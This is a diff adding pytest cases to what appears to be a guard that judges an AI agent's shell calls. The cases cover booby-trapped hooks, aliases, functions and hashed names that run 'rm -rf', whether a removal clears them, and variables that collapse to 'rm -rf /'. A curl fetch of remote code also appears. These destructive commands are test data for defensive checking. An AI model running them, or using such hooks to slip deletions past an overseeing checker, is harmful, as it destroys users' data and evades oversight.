@@ -840,6 +840,75 @@ def test_a_name_hashed_to_a_file_runs_the_file() -> None:
     assert judged([shell(f"curl -o /tmp/tidy {URL}"), shell("hash -p /tmp/tidy ls"), shell("ls")]) == FETCHED
 
 
+REMOVED: list[tuple[list[Call], str]] = [
+    ([shell("PROMPT_COMMAND='rm -rf $T'")], "unset PROMPT_COMMAND"),
+    ([shell("PROMPT_COMMAND='rm -rf $T'")], "unset -v PROMPT_COMMAND"),
+    ([shell("export BASH_ENV=/tmp/env.sh"), shell("echo 'rm -rf $T' > /tmp/env.sh")], "unset BASH_ENV"),
+    ([shell('precmd() { rm -rf "$T"; }')], "unset -f precmd"),
+    ([shell('precmd() { rm -rf "$T"; }')], "unfunction precmd"),
+    ([shell('precmd() { rm -rf "$T"; }')], "unset precmd"),
+    ([shell('TRAPEXIT() { rm -rf "$T"; }')], "builtin unset -f TRAPEXIT"),
+    ([shell("hash -p /tmp/tidy ls"), shell("echo 'rm -rf $T' > /tmp/tidy")], "hash -r"),
+    ([shell("hash -p /tmp/tidy ls"), shell("echo 'rm -rf $T' > /tmp/tidy")], "hash -d ls"),
+    ([shell("alias ls='rm -rf $T'")], "unalias ls"),
+    ([shell("alias ls='rm -rf $T'")], "unalias -a"),
+    ([shell('ls() { rm -rf "$T"; }')], "unset -f ls"),
+]
+
+
+@pytest.mark.parametrize(("made", "removal"), REMOVED, ids=[removal for _, removal in REMOVED])
+def test_a_hook_or_a_name_removed_runs_in_no_later_call(made: list[Call], removal: str) -> None:
+    """A hook variable unset, a hook or any function unset, an alias unaliased, a hashed name forgotten:
+    a later call runs none of it, while the calls before the removal still do."""
+    removed = [*made, SET_HOME, shell("ls -la"), shell(removal), shell("ls -la")]
+    assert judged(removed) is None
+    assert judged(removed, at=-3) == DELETE
+
+
+@pytest.mark.parametrize(
+    "calls",
+    [
+        # Another kind of thing of the same name.
+        [shell("alias ls='rm -rf $T'"), shell("unset -f ls")],
+        [shell('ls() { rm -rf "$T"; }'), shell("unalias ls")],
+        [shell("hash -p /bin/rm ls"), shell("unalias ls")],
+        [shell("ln -s /bin/rm ~/bin/ls"), shell("hash -r; unalias -a")],
+        [shell("export precmd=1"), shell('precmd() { rm -rf "$T"; }'), shell("unset precmd")],
+        [shell("PROMPT_COMMAND='rm -rf $T'"), shell("unset -f PROMPT_COMMAND")],
+        # No removal the shell runs: data, or a name defined again after it.
+        [shell("PROMPT_COMMAND='rm -rf $T'"), shell("echo '; unset PROMPT_COMMAND'")],
+        [shell('precmd() { rm -rf "$T"; }'), shell("grep -n 'unset -f precmd' notes.md")],
+        [shell('precmd() { rm -rf "$T"; }'), shell('unset -f precmd; precmd() { rm -rf "$T"; }')],
+        [shell("hash -p /tmp/tidy ls"), shell("echo 'rm -rf $T' > /tmp/tidy"), shell("hash -d cat")],
+    ],
+)
+def test_a_removal_of_something_else_leaves_what_runs(calls: list[Call]) -> None:
+    """A removal takes away what its kind names, as the shell does (``unset -f`` no alias, ``unalias`` no
+    function, ``hash -r`` no link, ``unset`` of a name that is a variable not its function), and only
+    where the shell runs it."""
+    ls = shell("ls -rf ~") if any("/bin/rm" in str(arguments) for _, arguments in calls) else shell("ls")
+    assert judged([*calls, SET_HOME, ls]) == DELETE
+
+
+@pytest.mark.parametrize(
+    ("earlier", "command", "rule"),
+    [
+        ([shell("unset X")], 'rm -rf "$X"/', DELETE),
+        ([shell("unset X")], 'rm -rf "/${X}"', DELETE),
+        ([shell("export X=./build"), shell("unset X")], 'rm -rf "$X"/*', DELETE),
+        ([shell("export X=./build"), shell("unset X; export X=./out")], 'rm -rf "$X"/', None),
+        ([], 'rm -rf "$BUILD_DIR"/', None),
+        ([shell("export BUILD_DIR=./build")], 'rm -rf "$BUILD_DIR"/', None),
+    ],
+)
+def test_a_variable_an_earlier_call_unset_is_empty(
+    earlier: list[Call], command: str, rule: str | None
+) -> None:
+    """``rm -rf "$X"/`` is ``rm -rf /`` where an earlier call unset X; one never set in the conversation
+    may be the agent's environment's, and is not known."""
+    assert judged([*earlier, shell(command)]) == rule
+
+
 def test_a_hook_too_long_to_read_leaves_every_later_call_out_of_time() -> None:
     """What a hook runs, added to again and again past 16 KB, is not known in time: each later call is out
     of time, withheld where enforced; a conversation without it passes."""
